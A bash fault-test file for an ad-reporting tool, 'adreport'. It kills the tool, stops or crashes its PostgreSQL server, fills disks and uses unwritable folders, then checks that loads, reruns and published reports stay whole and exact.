#!/usr/bin/env bash
# Fault tests (issue 7): adreport is killed, its server goes away, its disks
# fill up, its input is hostile -- and the README's promises still hold: a
# file loads completely or not at all, a rerun finishes the job exactly once,
# a report is the whole new one or the whole old one, nothing is loaded into
# a tenant it does not belong to.  Also valgrind over load/rollup/report.
#
# Knobs (environment): ADR_FAULT_TRIALS (kill -9 trials, default 20),
# ADR_FAULT_SEED (bash RANDOM seed, default: random, printed on failure).
# The PostgreSQL-stop test needs ADR_PGDATA (set by tests/run.sh): the server's
# data folder is "$ADR_PGDATA/data".
source "$(dirname "$0")/lib.sh"

H_CLICKS='ad_id,clicked_at,site_url,cost_per_click_usd,user_ip,user_data'
GOOD='1,2026-11-01 10:00:00,http://a.example/,0.5,10.0.0.1,{}'
NTENANTS=10
NROWS=20000

# --- shared data, generated once for the whole file ----------------------
#
# Tenants 1..10, each with one campaign (cost_per_impression) and ads 1..3;
# one impressions file of 20,000 rows per tenant, all on the tenant's own UTC
# day 2026-11-<tenant>, so that "whole files only" is checkable exactly per
# tenant.  Files of tenants 9 and 10 are gzipped.
FAULT_DATA=$(mktemp -d "${TMPDIR:-/tmp}/adreport-faults.XXXXXX")
trap 'rm -rf "$FAULT_DATA"' EXIT
$PY - "$FAULT_DATA" "$NTENANTS" "$NROWS" <<'PY'
import gzip, os, random, sys
out, nten, nrows = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
os.makedirs(out + "/ent")
ts = "2026-01-01 00:00:00"
with open(out + "/ent/companies.csv", "w") as f:
    for t in range(1, nten + 1):
        f.write(f"{t},Tenant {t},,{ts},{ts}\n")
with open(out + "/ent/campaigns.csv", "w") as f:
    for t in range(1, nten + 1):
        f.write(f"1,{t},Campaign {t},cost_per_impression,active,1000,,{ts},{ts}\n")
with open(out + "/ent/ads.csv", "w") as f:
    for t in range(1, nten + 1):
        for a in (1, 2, 3):
            f.write(f"{a},{t},1,Ad {a},,,0,0,{ts},{ts}\n")
r = random.Random(7)
for t in range(1, nten + 1):
    os.makedirs(f"{out}/in/{t}")
    lines = ["ad_id,seen_at,site_url,cost_per_impression_usd,user_ip,user_data\n"]
    for i in range(nrows):
        lines.append(f"{1 + i % 3},2026-11-{t:02d} {i // 3600 % 24:02d}:{i // 60 % 60:02d}:{i % 60:02d},"
                     f"http://s{i % 50}.example/p?{i},0.00{r.randrange(10**8):08d},"
                     f"10.{t}.{i // 256 % 256}.{i % 256},\"{{\"\"ua\"\":\"\"Mozilla/5.0\"\",\"\"n\"\":{i}}}\"\n")
    name = f"{out}/in/{t}/impressions-2026-11-{t:02d}.csv"
    if t >= 9:
        with gzip.open(name + ".gz", "wt", compresslevel=1) as f:
            f.writelines(lines)
    else:
        with open(name, "w") as f:
            f.writelines(lines)
PY

seed_entities() { "$ADR" load -q "$FAULT_DATA/ent"; }

# Everything a load, rollup or report writes, gone; the entities stay.
reset_state() {
    q "TRUNCATE clicks, impressions, adreport_loaded_files, adreport_dirty_days,
                adreport_dirty_months, ad_daily_stats;
       UPDATE ads SET impressions_count = 0, clicks_count = 0"
}

# Wait until the sessions of a killed adreport have ended on the server, so
# that what a check reads is final (a COMMIT sent just before the kill may
# still be in flight).
wait_for_orphans() {
    local i
    for ((i = 0; i < 100; i++)); do
        [ "$(q "SELECT count(*) FROM pg_stat_activity
                WHERE datname = current_database() AND pid <> pg_backend_pid()
                  AND backend_type = 'client backend'")" == 0 ] && return 0
        sleep 0.1
    done
    fail "sessions of the killed adreport still open after 10 s"
}

# Prints one line per broken promise, nothing when the database holds whole
# files only: per tenant, its events equal the rows its ledger row says were
# loaded (20,000 or, without a ledger row, none); a loaded file's day is
# either marked dirty or rolled up -- entirely; nothing outside tenants 1..10.
whole_file_violations() {
    q "WITH t AS (SELECT c FROM generate_series(1, $NTENANTS) c),
       ev AS (SELECT company_id c, count(*) n FROM impressions GROUP BY 1),
       lg AS (SELECT company_id c, count(*) files, sum(rows_loaded) r
              FROM adreport_loaded_files WHERE kind = 'impressions' GROUP BY 1),
       dd AS (SELECT company_id c, count(*) d FROM adreport_dirty_days GROUP BY 1),
       st AS (SELECT company_id c, sum(impressions) s FROM ad_daily_stats GROUP BY 1),
       x AS (SELECT t.c, coalesce(ev.n, 0) n, coalesce(lg.files, 0) files, coalesce(lg.r, 0) r,
                    coalesce(dd.d, 0) d, coalesce(st.s, 0) s
             FROM t LEFT JOIN ev USING (c) LEFT JOIN lg USING (c) LEFT JOIN dd USING (c)
                    LEFT JOIN st USING (c))
       SELECT format('tenant %s: %s events, %s ledger rows saying %s rows, %s dirty days, %s rolled up',
                     c, n, files, r, d, s)
       FROM x
       WHERE NOT (n = r AND files <= 1 AND n IN (0, $NROWS)
                  AND CASE WHEN files = 0 THEN d = 0 AND s = 0
                           ELSE (d = 1 AND s = 0) OR (d = 0 AND s = n) END)
       UNION ALL
       SELECT format('%s events outside tenants 1..$NTENANTS', count(*)) FROM impressions
       WHERE company_id NOT BETWEEN 1 AND $NTENANTS HAVING count(*) > 0
       UNION ALL
       SELECT format('%s clicks', count(*)) FROM clicks HAVING count(*) > 0
       UNION ALL
       SELECT format('%s ledger rows of another kind', count(*)) FROM adreport_loaded_files
       WHERE kind <> 'impressions' HAVING count(*) > 0"
}

files_committed() { q "SELECT count(*) FROM adreport_loaded_files WHERE kind = 'impressions'"; }

# Content of the events, per tenant: count and a hash of every column.
fingerprint() {
    q "SELECT string_agg(format('%s:%s:%s', company_id, n, h), ',' ORDER BY company_id)
       FROM (SELECT company_id, count(*) n,
                    sum(hashtext(concat_ws('|', ad_id, seen_at, site_url, cost_per_impression_usd,
                                           user_ip, user_data::text))::bigint) h
             FROM impressions GROUP BY 1) s"
}

# The rollup equals the raw events, exactly.
rollup_differences() {
    q "SELECT count(*) FROM
         (SELECT company_id, ad_id, seen_at::date AS day, count(*) n,
                 sum(coalesce(cost_per_impression_usd, 0)) c
          FROM impressions GROUP BY 1, 2, 3) e
       FULL JOIN ad_daily_stats s USING (company_id, ad_id, day)
       WHERE e.n IS DISTINCT FROM s.impressions OR e.c IS DISTINCT FROM s.impression_cost_usd
          OR e.c IS DISTINCT FROM s.spend_usd"
}

# Checksums of the published (not hidden) report CSVs under DIR.
report_sums() { (cd "$1" && find . -name '*.csv' ! -name '.*' | sort | xargs -r sha256sum); }

# The complete, exact state after a finished load (mode load) or run (mode run).
assert_exact() {
    local mode=$1 want_fp=$2
    assert_eq "" "$(whole_file_violations)" "whole files"
    assert_eq "$NTENANTS" "$(files_committed)" "files in the ledger"
    assert_eq "$want_fp" "$(fingerprint)" "events per tenant"
    assert_eq "$NTENANTS $((NTENANTS * NROWS)) 0" \
        "$(q "SELECT concat_ws(' ', count(*), sum(rows_loaded), sum(rows_rejected)) FROM adreport_loaded_files")" \
        "ledger rows"
    if [ "$mode" == run ]; then
        assert_eq "0 0" "$(q 'SELECT count(*) FROM adreport_dirty_days') $(q 'SELECT count(*) FROM adreport_dirty_months')" \
            "dirty marks left after a run"
        assert_eq 0 "$(rollup_differences)" "rollup vs events"
    else
        assert_eq "$NTENANTS" "$(q "SELECT count(*) FROM adreport_dirty_days")" "dirty days after a load"
    fi
}

# rerun MODE LOG - the same load or run again, until it is not locked out by
# the killed run's session (exit 75 means "try later").  Echoes the exit code.
rerun() {
    local mode=$1 log=$2 rc i
    for ((i = 0; i < 40; i++)); do
        rc=0
        if [ "$mode" == run ]; then
            "$ADR" run -q --incoming "$FAULT_DATA/in" --reports "$W/rep" --rejects "$W/rej" >"$log" 2>&1 || rc=$?
        else
            "$ADR" load -q --rejects "$W/rej" "$FAULT_DATA/in" >"$log" 2>&1 || rc=$?
        fi
        [ "$rc" != 75 ] && break
        sleep 0.25
    done
    echo "$rc"
}

# --- kill -9 ---------------------------------------------------------------

# kill_after_files PID K LIMIT - return once K files are committed (or PID
# has ended, or LIMIT x 3 seconds have passed); KILL_AFTER = seconds waited.
kill_after_files() {
    local t0 now
    t0=$(date +%s.%N)
    while kill -0 "$1" 2>/dev/null && [ "$(files_committed)" -lt "$2" ]; do
        now=$(date +%s.%N)
        awk -v a="$t0" -v b="$now" -v l="$3" 'BEGIN { exit !(b - a > 3 * l) }' && break
        sleep 0.02
    done
    KILL_AFTER=$(awk -v a="$t0" -v b="$(date +%s.%N)" 'BEGIN { printf "%.3f", b - a }')
}

test_kill_9_during_load_or_run_leaves_whole_files_and_a_rerun_is_exact() {
    seed_entities
    local seed=${ADR_FAULT_SEED:-$((RANDOM * 32768 + RANDOM))}
    RANDOM=$seed
    echo "ADR_FAULT_SEED=$seed"
    # A clean run: the expected result, the reports, and how long a run takes
    # (kills are spread over that time, at least 0.05..1.0 s).
    local t0 t1 dur dur_load want_fp want_reports today
    today=$(date -u +%F)
    t0=$(date +%s.%N)
    "$ADR" run -q --incoming "$FAULT_DATA/in" --reports "$W/rep0" --rejects "$W/rej" >"$W/clean.log"
    t1=$(date +%s.%N)
    cat "$W/clean.log"
    dur=$(awk -v a="$t0" -v b="$t1" 'BEGIN { d = b - a; printf "%.2f", d < 1 ? 1 : d }')
    # its load stage, from "summary: ... seconds: load 1.03, rollup ...", plus process start
    dur_load=$(sed -n 's/.*seconds: load \([0-9.]*\),.*/\1/p' "$W/clean.log")
    dur_load=$(awk -v d="${dur_load:-1}" 'BEGIN { d += 0.2; printf "%.2f", d < 1 ? 1 : d }')
    want_fp=$(fingerprint)
    want_reports=$(report_sums "$W/rep0")
    [ -n "$want_reports" ] || fail "the clean run wrote no report"
    echo "a clean run takes ${dur} s, its load ${dur_load} s"

    local trials=${ADR_FAULT_TRIALS:-20} trial mode delay pid rc committed partial=0 tmpfiles=0
    local summary=""
    for ((trial = 1; trial <= trials; trial++)); do
        reset_state
        rm -rf "$W/rep" "$W/rej"
        mode=$([ $((trial % 2)) == 0 ] && echo run || echo load)
        # A run is killed at a random moment of its whole time.  A load is
        # killed right after a random number of its files (1..9) has become
        # visible: a delay drawn from the clean load's time missed the middle
        # too often when other tests shared the machine (its files are all
        # committed by about half of its stage, the rest being the final
        # barrier's WAL flush, loader.c "Durability").
        if [ "$mode" == run ]; then
            "$ADR" run -q --incoming "$FAULT_DATA/in" --reports "$W/rep" --rejects "$W/rej" >"$W/killed.log" 2>&1 &
        else
            "$ADR" load -q --rejects "$W/rej" "$FAULT_DATA/in" >"$W/killed.log" 2>&1 &
        fi
        pid=$!
        if [ "$mode" == run ]; then
            delay=$(awk -v r="$RANDOM" -v max="$dur" 'BEGIN { printf "%.3f", 0.05 + r / 32767 * (max - 0.05) }')
            sleep "$delay"
        else
            kill_after_files "$pid" $((1 + RANDOM % (NTENANTS - 1))) "$dur_load"
            delay=$KILL_AFTER
        fi
        kill -9 "$pid" 2>/dev/null || true
        wait "$pid" 2>/dev/null || true
        wait_for_orphans
        local bad
        bad=$(whole_file_violations)
        [ -z "$bad" ] || fail "trial $trial ($mode killed after $delay s): $bad"
        committed=$(files_committed)
        [ "$committed" -gt 0 ] && [ "$committed" -lt "$NTENANTS" ] && partial=$((partial + 1))
        if [ -d "$W/rep" ]; then
            tmpfiles=$((tmpfiles + $(find "$W/rep" -name '.*.tmp.*' | wc -l)))
        fi

        rc=$(rerun "$mode" "$W/rerun.log")
        [ "$rc" == 0 ] || { cat "$W/rerun.log"; fail "trial $trial: rerun of $mode exited $rc"; }
        assert_exact "$mode" "$want_fp"
        # Reports published by the killed run or the rerun: whole, and the
        # same as the clean run's (unless the UTC day, and with it the budget
        # pacing of the current month, changed meanwhile).
        if [ "$mode" == run ] && [ "$(date -u +%F)" == "$today" ]; then
            assert_eq "$want_reports" "$(report_sums "$W/rep")" "reports after trial $trial"
        fi
        summary+="trial $trial: $mode killed after ${delay}s with $committed files committed"$'\n'
    done
    printf '%s' "$summary"
    echo "$partial of $trials trials killed a load half-way; $tmpfiles temporary report files left by kills"
    # The kills must have hit mid-load often enough to mean something.
    [ "$partial" -ge $((trials / 4)) ] || fail "only $partial trials stopped a load half-way"
}

# After a kill -9 at any moment of a report, every report folder is wholly the
# old report or wholly the new one: no folder mixes files of the two versions,
# no file is torn, no stray file is left where a customer could download it
# (tests/check_old_or_new.py), and the download manifest lists nothing that is
# not on disk as listed (check_manifest.py).  Kills land
#  (a) by strace, at each rename() of a report of four tenants in turn: the
#      moments between publishing one file of a folder and the next, where a
#      mix would show, hit every time and not by luck; then the same at each
#      folder swap (renameat2) and removal of a swapped-out folder;
#  (b) at random moments of a report of all ten tenants: at least 10 trials,
#      more (at most 30) until 3 kills were caught mid-write.
# A check counts a kill as landed mid-write only on evidence left by the
# killed writer (a temporary dot file, or a folder its index.json lists as
# "updating"): every strace kill must show it, and some random one must.

# report_kill_check REP WHAT - the checks after a killed report into REP (a
# copy of $W/old); echoes "old=N new=M midwrite=yes|no" (folders).
report_kill_check() {
    local rep=$1 what=$2 out tenant
    out=$($PY tests/check_old_or_new.py "$W/old" "$W/new" "$rep" 2>&1) || fail "$what: $out"
    for tenant in "$rep"/*/; do
        $PY tests/check_manifest.py "$tenant" >/dev/null || fail "$what: index.json of $tenant"
    done
    echo "$out"
}

# exit_status CMD... - run CMD silently, echo its exit status (without the
# shell's "Killed" line when a signal ends it).
exit_status() {
    sh -c '"$@" >/dev/null 2>&1; echo $?' sh "$@" 2>/dev/null
}

fresh_copy_of_old() {
    rm -rf "$W/rep"
    cp -a "$W/old" "$W/rep"
}

test_kill_9_during_report_leaves_old_or_new_files() {
    seed_entities
    "$ADR" load -q --rejects "$W/rej" "$FAULT_DATA/in"
    "$ADR" rollup -q
    "$ADR" report -q --all --month 2026-11 --out "$W/old"
    q "UPDATE ad_daily_stats SET impressions = impressions + 1"
    "$ADR" report -q --all --month 2026-11 --out "$W/new"
    # Each file must tell the versions apart, and only a killed writer leaves
    # dot files: else neither "old or new" nor "mid-write" would mean a thing.
    $PY tests/check_old_or_new.py --differ "$W/old" "$W/new"
    assert_eq "" "$(find "$W/old" -name '.*')" "dot files in the old reports"
    local res

    # (a) SIGKILL on entering the k-th rename() of a thread.  strace counts
    # per thread, so k goes up to renames / RPT_WORKERS: some worker gets there.
    local four=(--company 1 --company 2 --company 3 --company 4) workers renames k rc
    # LeakSanitizer cannot run under ptrace (a traced ASan build that exits
    # normally fails at exit): no leak check for the traced runs.
    export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0"
    if strace -f -qq -o /dev/null true 2>/dev/null; then
        workers=$(sed -n 's/^#define RPT_WORKERS \([0-9]*\).*/\1/p' include/adreport/report.h)
        [ "${workers:-0}" -ge 1 ] || fail "RPT_WORKERS not found in include/adreport/report.h"
        fresh_copy_of_old
        strace -f -qq -o "$W/trace" -e trace=rename "$ADR" report -q "${four[@]}" --month 2026-11 --out "$W/rep"
        renames=$(grep -c 'rename(' "$W/trace")
        echo "a report of four tenants makes $renames renames on $workers workers"
        [ "$renames" -ge 8 ] || fail "only $renames renames traced"
        for ((k = 1; k <= renames / workers; k++)); do
            fresh_copy_of_old
            rc=$(exit_status strace -f -qq -o /dev/null -e trace=rename -e inject=rename:signal=KILL:when=$k \
                "$ADR" report -q "${four[@]}" --month 2026-11 --out "$W/rep")
            assert_eq 137 "$rc" "exit status of the report killed at rename $k"
            res=$(report_kill_check "$W/rep" "killed at rename $k")
            echo "killed at rename $k: $res"
            case "$res" in
            *midwrite=yes) ;;
            *) fail "killed at rename $k, yet no trace of a report being written: $res" ;;
            esac
        done
        # The same at each folder swap (renameat2) and each step of removing
        # the swapped-out old folder (unlinkat, rmdir): the moments a folder
        # changes hands.
        local call n
        for call in renameat2 unlinkat rmdir; do
            fresh_copy_of_old
            strace -f -qq -o "$W/trace" -e trace=$call "$ADR" report -q "${four[@]}" --month 2026-11 --out "$W/rep"
            n=$(grep -c "$call(" "$W/trace" || true)
            echo "a report of four tenants makes $n $call calls"
            [ "$n" -ge 4 ] || fail "only $n $call calls traced"
            for ((k = 1; k <= n / workers; k++)); do
                fresh_copy_of_old
                rc=$(exit_status strace -f -qq -o /dev/null -e trace=$call -e inject=$call:signal=KILL:when=$k \
                    "$ADR" report -q "${four[@]}" --month 2026-11 --out "$W/rep")
                assert_eq 137 "$rc" "exit status of the report killed at $call $k"
                res=$(report_kill_check "$W/rep" "killed at $call $k")
                echo "killed at $call $k: $res"
                case "$res" in
                *midwrite=yes) ;;
                *) fail "killed at $call $k, yet no trace of a report being written: $res" ;;
                esac
            done
        done
    else
        echo "strace missing or not allowed here: random kills only"
    fi

    # (b) random moments of a report of all tenants.
    local t0 t1 dur trial pid delay mid=0
    fresh_copy_of_old
    t0=$(date +%s.%N)
    "$ADR" report -q --all --month 2026-11 --out "$W/rep"
    t1=$(date +%s.%N)
    dur=$(awk -v a="$t0" -v b="$t1" 'BEGIN { printf "%.3f", b - a }')
    echo "a report of all tenants takes ${dur} s"
    for ((trial = 1; trial <= 10 || (mid < 3 && trial <= 30); trial++)); do
        fresh_copy_of_old
        "$ADR" report -q --all --month 2026-11 --out "$W/rep" >/dev/null 2>&1 &
        pid=$!
        delay=$(awk -v r="$RANDOM" -v max="$dur" 'BEGIN { printf "%.3f", r / 32767 * max }')
        sleep "$delay"
        kill -9 "$pid" 2>/dev/null || true
        wait "$pid" 2>/dev/null || true
        res=$(report_kill_check "$W/rep" "trial $trial (killed after $delay s)")
        echo "random trial $trial: killed after $delay s: $res"
        case "$res" in *midwrite=yes) mid=$((mid + 1)) ;; esac
    done
    echo "$mid of $((trial - 1)) random kills landed while a report was being written"
    [ "$mid" -ge 1 ] || fail "no random kill landed while a report was being written"
}

# The random kills above now and then land between libxlsxwriter creating a
# scratch file (tmp.XXXXXXXXXX, in the report folder) and unlinking it; here
# strace kills the report exactly there.  A customer's report folder must not
# be left with a visible stray file.
test_kill_9_while_writing_xlsx_leaves_no_visible_stray_file() {
    if ! strace -f -qq -o /dev/null true 2>/dev/null; then
        skip "strace missing or not allowed to trace here"
    fi
    seed_entities
    printf '%s\n%s\n' "$H_CLICKS" "$GOOD" >"$W/clicks.csv"
    "$ADR" load -q --company 1 --rejects "$W/rej" "$W/clicks.csv"
    "$ADR" rollup -q
    local rc=0
    # SIGKILL on entering the first unlink(): the first scratch file's removal
    strace -f -qq -o /dev/null -e trace=unlink,unlinkat -e inject=unlink,unlinkat:signal=KILL:when=1 \
        "$ADR" report -q --company 1 --month 2026-11 --format xlsx --out "$W/rep" || rc=$?
    assert_eq 137 "$rc" "exit status of the report killed at its first unlink()"
    assert_eq "" "$(find "$W/rep" -type f ! -name '.*' ! -name index.json -printf '%P\n')" \
        "visible files left by the killed report"
    # The manifest, written before the files, lists the folder as updating.
    $PY tests/check_manifest.py "$W/rep/1"
}

# --- PostgreSQL stops --------------------------------------------------------

# stoppable_server - set pgdata to the test server's data folder (skip the
# test without ADR_PGDATA), and bring the server back when the test ends,
# whatever happens in it: later tests share it.
stoppable_server() {
    if [ -z "${ADR_PGDATA:-}" ] || [ ! -f "$ADR_PGDATA/data/PG_VERSION" ]; then
        skip "ADR_PGDATA does not name the test server's folder"
    fi
    pgdata=$ADR_PGDATA/data
    trap 'samples/pg.sh start "'"$pgdata"'" >/dev/null 2>&1 || true; rm -rf "$W"' EXIT
}

test_postgres_fast_shutdown_during_load_exits_1_and_a_rerun_is_exact() {
    local pgdata
    stoppable_server
    seed_entities
    q "SELECT 1" >/dev/null
    local want_fp
    "$ADR" load -q --rejects "$W/rej" "$FAULT_DATA/in" >/dev/null
    want_fp=$(fingerprint)
    reset_state

    "$ADR" load --rejects "$W/rej" "$FAULT_DATA/in" >"$W/load.log" 2>&1 &
    local pid=$! i rc=0
    # Stop the server once some files have committed and others are in flight.
    for ((i = 0; i < 400; i++)); do
        [ "$(files_committed)" -ge 2 ] && break
        sleep 0.02
    done
    samples/pg.sh stop "$pgdata"
    wait "$pid" || rc=$?
    samples/pg.sh start "$pgdata"
    local out
    out=$(cat "$W/load.log")
    echo "$out"
    assert_eq 1 "$rc" "exit code when the server stops"
    case "$out" in
    *"terminating connection due to administrator command"* | *"server closed the connection"* | *"connection to the server was lost"*) ;;
    *) fail "no clear message about the lost server: $out" ;;
    esac
    assert_contains "$out" "adreport: error: could not"
    case "$out" in *egmentation* | *"core dumped"* | *Sanitizer*) fail "crash: $out" ;; esac
    # Only whole files, and somewhere in the middle.
    assert_eq "" "$(whole_file_violations)" "whole files after the server stopped"
    local committed
    committed=$(files_committed)
    [ "$committed" -lt "$NTENANTS" ] || fail "the load had finished before the server stopped"
    echo "$committed files committed before the server stopped"
    # After the restart a rerun completes the job exactly.
    assert_exit 0 "$ADR" load -q --rejects "$W/rej" "$FAULT_DATA/in"
    assert_exact load "$want_fp"
}

# The loader commits asynchronously and makes its commits durable before it
# archives a file (loader.c, "Durability").  An immediate shutdown loses the
# WAL the server had not written out; no file the run archived may be among
# what it lost, and the rerun loads every other file exactly once.
test_postgres_crash_during_run_loses_no_archived_file_and_a_rerun_is_exact() {
    local pgdata
    stoppable_server
    seed_entities
    # 10 tenants x 60 files of 5 rows; file N's rows carry "f<N>" in their URL.
    $PY - "$W/in" "$NTENANTS" <<'PY'
import os, sys
out, nten = sys.argv[1], int(sys.argv[2])
n = 0
for t in range(1, nten + 1):
    os.makedirs(f"{out}/{t}")
    for k in range(60):
        n += 1
        with open(f"{out}/{t}/impressions-{k:03d}.csv", "w") as f:
            f.write("ad_id,seen_at,site_url,cost_per_impression_usd,user_ip,user_data\n")
            for i in range(5):
                f.write(f"{1 + i % 3},2026-11-{1 + k % 28:02d} 10:00:0{i},http://f{n}.example/,0.01,10.0.0.{i},{{}}\n")
PY
    local total
    total=$(find "$W/in" -name '*.csv' | wc -l)
    mkdir -p "$W/arch"
    "$ADR" run -q --incoming "$W/in" --archive "$W/arch" --reports "$W/rep" --rejects "$W/rej" \
        >"$W/run.log" 2>&1 &
    local pid=$! i rc=0
    # Crash the server once some files are archived and others are loading.
    for ((i = 0; i < 1000; i++)); do
        [ "$(find "$W/arch" -name '*.csv' | wc -l)" -ge 1 ] && break
        sleep 0.01
    done
    samples/pg.sh crash "$pgdata"
    wait "$pid" || rc=$?
    samples/pg.sh start "$pgdata"
    case "$(cat "$W/run.log")" in *egmentation* | *"core dumped"* | *Sanitizer*) fail "crash: $(cat "$W/run.log")" ;; esac
    local archived
    archived=$(find "$W/arch" -name '*.csv' | wc -l)
    [ "$archived" -lt "$total" ] || fail "the run had archived every file before the crash"
    [ "$rc" != 0 ] || fail "exit 0 from a run whose server crashed"
    echo "$archived of $total files archived before the crash (exit $rc)"
    # Every archived file's rows are in the database, whole.
    local missing
    missing=$(find "$W/arch" -name '*.csv' -exec tail -n +2 {} + | grep -o 'http://f[0-9]*\.example/' |
        sort -u | $PY -c '
import sys, subprocess
want = [l.strip() for l in sys.stdin if l.strip()]
have = set(subprocess.run(["psql", "-XAtq", "-c", "SELECT DISTINCT site_url FROM impressions"],
                          capture_output=True, text=True, check=True).stdout.split())
print(len([u for u in want if u not in have]))')
    assert_eq 0 "$missing" "archived files whose rows the crash lost"
    # The rerun loads the rest; every file exactly once.
    local rc2=75
    for ((i = 0; i < 40 && rc2 == 75; i++)); do
        rc2=0
        "$ADR" run -q --incoming "$W/in" --archive "$W/arch" --reports "$W/rep" --rejects "$W/rej" \
            >"$W/rerun.log" 2>&1 || rc2=$?
        [ "$rc2" != 75 ] || sleep 0.25
    done
    assert_eq 0 "$rc2" "exit code of the rerun: $(cat "$W/rerun.log")"
    assert_eq "$total" "$(find "$W/arch" -name '*.csv' | wc -l)" "files archived after the rerun"
    assert_eq "$total 5 5 $((total * 5))" \
        "$(q "SELECT concat_ws(' ', count(*), min(n), max(n), sum(n))
              FROM (SELECT site_url, count(*) n FROM impressions GROUP BY 1) s")" \
        "rows per file after the rerun (files, min, max, rows)"
    assert_eq "$total" "$(q "SELECT count(*) FROM adreport_loaded_files WHERE kind = 'impressions'")" \
        "ledger rows"
}

# --- full disks and unwritable folders --------------------------------------

# mount_tmpfs DIR - a 256 KiB tmpfs; skips the test when that is not possible.
mount_tmpfs() {
    mkdir -p "$1"
    mount -t tmpfs -o size=256k tmpfs "$1" 2>/dev/null && return 0
    skip "cannot mount a tmpfs here (not root?)"
}

fill_up() { dd if=/dev/zero of="$1/filler" bs=4k 2>/dev/null || true; }

# A small event file of tenant T for day D (no bad rows unless BAD is given).
small_file() {
    local path=$1 day=$2 bad=${3:-}
    mkdir -p "$(dirname "$path")"
    {
        echo "$H_CLICKS"
        for i in $(seq 10 49); do echo "1,2026-11-$day 10:00:$i,http://a.example/$i,0.5,10.0.0.1,{}"; done
        [ -z "$bad" ] || echo "1,2026-11-$day 10:00:00,http://a.example/,0.5,1.2.3,{}"
    } >"$path"
}

test_full_disk_for_reports_keeps_published_reports_and_a_rerun_catches_up() {
    seed_entities
    trap 'umount "$W/full" 2>/dev/null || true; rm -rf "$W"' EXIT
    mount_tmpfs "$W/full"
    small_file "$W/in/1/clicks-a.csv" 01
    assert_exit 0 "$ADR" run -q --incoming "$W/in" --reports "$W/full" --rejects "$W/rej"
    local d="$W/full/1/2026-11" before after out rc=0
    before=$(cd "$d" && sha256sum campaigns.csv ads.csv daily.csv performance.xlsx)
    # New data for the same month, and no space left for its report.
    small_file "$W/in/1/clicks-b.csv" 02
    fill_up "$W/full"
    out=$("$ADR" run --incoming "$W/in" --reports "$W/full" --rejects "$W/rej" 2>&1) || rc=$?
    echo "$out"
    assert_eq 1 "$rc" "exit code of a run whose reports do not fit"
    assert_contains "$out" "could not write report"
    assert_contains "$out" "No space left on device"
    after=$(cd "$d" && sha256sum campaigns.csv ads.csv daily.csv performance.xlsx)
    assert_eq "$before" "$after" "the published report changed"
    assert_eq "" "$(find "$W/full" -name '*.tmp*')" "temporary files left"
    assert_eq 80 "$(q "SELECT count(*) FROM clicks")" "the data itself is loaded"
    [ "$(q "SELECT count(*) FROM adreport_dirty_months")" -gt 0 ] ||
        fail "the month's mark is gone although its report was not written"
    # With space again the next run writes the report it owes.
    rm "$W/full/filler"
    assert_exit 0 "$ADR" run -q --incoming "$W/in" --reports "$W/full" --rejects "$W/rej"
    after=$(cd "$d" && sha256sum campaigns.csv ads.csv daily.csv performance.xlsx)
    [ "$before" != "$after" ] || fail "the report was not rewritten once there was space"
    assert_eq 0 "$(q "SELECT count(*) FROM adreport_dirty_months")" "marks after the catch-up run"
    assert_eq "" "$(find "$W/full" -name '*.tmp*')" "temporary files left"
    umount "$W/full"
}

test_full_disk_for_rejects_loads_nothing_and_a_rerun_keeps_the_rejects() {
    seed_entities
    trap 'umount "$W/full" 2>/dev/null || true; rm -rf "$W"' EXIT
    mount_tmpfs "$W/full"
    small_file "$W/in/1/clicks-bad.csv" 01 bad # 40 good rows, 1 bad: under 5 %
    fill_up "$W/full"
    local out rc=0
    out=$("$ADR" load --rejects "$W/full" "$W/in" 2>&1) || rc=$?
    echo "$out"
    [ "$rc" != 0 ] || fail "exit 0 although the rejected row could not be written"
    assert_contains "$out" "could not write rejects file"
    assert_contains "$out" "No space left on device"
    assert_eq "" "$(find "$W/full" -name '*.tmp*')" "temporary files left"
    # The file must not count as loaded: a rerun would skip it and its
    # rejected row would be lost for good.
    assert_eq "0 0" "$(q "SELECT count(*) FROM clicks") $(q "SELECT count(*) FROM adreport_loaded_files WHERE kind = 'clicks'")" \
        "rows and ledger after the failed load"
    rm "$W/full/filler"
    assert_exit 3 "$ADR" load -q --rejects "$W/full" "$W/in"
    assert_eq 40 "$(q "SELECT count(*) FROM clicks")"
    grep -q '^42,bad_ip,' "$W/full/1/clicks-bad.csv.rejects.csv" || fail "the rejected row is not in the rejects file"
    umount "$W/full"
}

test_unwritable_reports_and_rejects_folders_fail_clearly() {
    seed_entities
    : >"$W/afile" # a regular file where a folder's parent should be
    small_file "$W/in/1/clicks-a.csv" 01
    local out rc=0
    out=$("$ADR" run --incoming "$W/in" --reports "$W/afile/reports" --rejects "$W/rej" 2>&1) || rc=$?
    echo "$out"
    assert_eq 1 "$rc" "exit code with an unusable reports folder"
    assert_contains "$out" "could not create report folder"
    assert_contains "$out" "Not a directory"
    [ "$(q "SELECT count(*) FROM adreport_dirty_months")" -gt 0 ] || fail "the month's mark is gone"

    small_file "$W/in2/1/clicks-bad.csv" 03 bad
    rc=0
    out=$("$ADR" load --rejects "$W/afile/rejects" "$W/in2" 2>&1) || rc=$?
    echo "$out"
    [ "$rc" != 0 ] || fail "exit 0 although the rejects folder is unusable"
    assert_contains "$out" "could not write rejects file"
    assert_contains "$out" "Not a directory"
    assert_eq 0 "$(q "SELECT count(*) FROM clicks WHERE clicked_at::date = '2026-11-03'")" \
        "rows of a file whose rejects could not be written"
}

# --- hostile input -------------------------------------------------------------

# hload ARGS... - `adreport load --rejects $W/rej ARGS` under /usr/bin/time;
# sets RC, OUT and RSS (peak, KiB) and fails on a crash or an exit code other
# than 3 or 4.
hload() {
    RC=0
    # Under ASan (make SANITIZE=1) freed memory sits in a quarantine that
    # would count as peak RSS: switch it off, so RSS is what is really in use.
    OUT=$(ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}quarantine_size_mb=0" \
        /usr/bin/time -f '%M' -o "$W/rss" "$ADR" load --rejects "$W/rej" "$@" 2>&1) || RC=$?
    RSS=$(tail -n 1 "$W/rss")
    printf '%s\n[exit %s, peak RSS %s KiB]\n' "$OUT" "$RC" "$RSS" | cut -c 1-300
    case "$RC" in 3 | 4) ;; *) fail "exit $RC (expected 3 or 4) from load $*" ;; esac
}

# Is $ADR built with ASan (make SANITIZE=1)?  (No "ldd | grep -q": under
# pipefail grep's early exit makes ldd's SIGPIPE fail the pipeline.)
asan_build() { case "$(ldd "$ADR" 2>/dev/null)" in *libasan*) return 0 ;; esac; return 1; }

# The peak RSS bound: 64 MiB (12 MiB measured; up to 37 MiB with ASan).
